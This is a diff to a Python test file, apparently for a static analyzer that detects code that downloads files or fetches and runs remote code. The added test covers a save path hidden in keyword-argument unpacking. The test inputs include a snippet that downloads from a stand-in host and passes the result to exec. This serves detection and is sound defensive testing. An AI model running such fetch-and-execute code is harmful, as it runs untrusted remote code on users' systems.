@@ -125,6 +125,9 @@ def test_downloads_are_named():
     result = reading("import urllib.request as u; u.urlretrieve('http://x.test/i.sh', 'i.sh')")
     assert result.downloads == ["/p/i.sh"]
     assert reading("import urllib.request as u; exec(u.urlopen('http://x.test').read())").runs_download
+    # Where it saves may be in a `**`: not known.
+    hidden = reading("import urllib.request as u; u.urlretrieve('http://x.test/i.sh', **{'filename': 'i.sh'})")
+    assert hidden.unresolved and not hidden.downloads
 
 
 @pytest.mark.parametrize("code, path, access", [
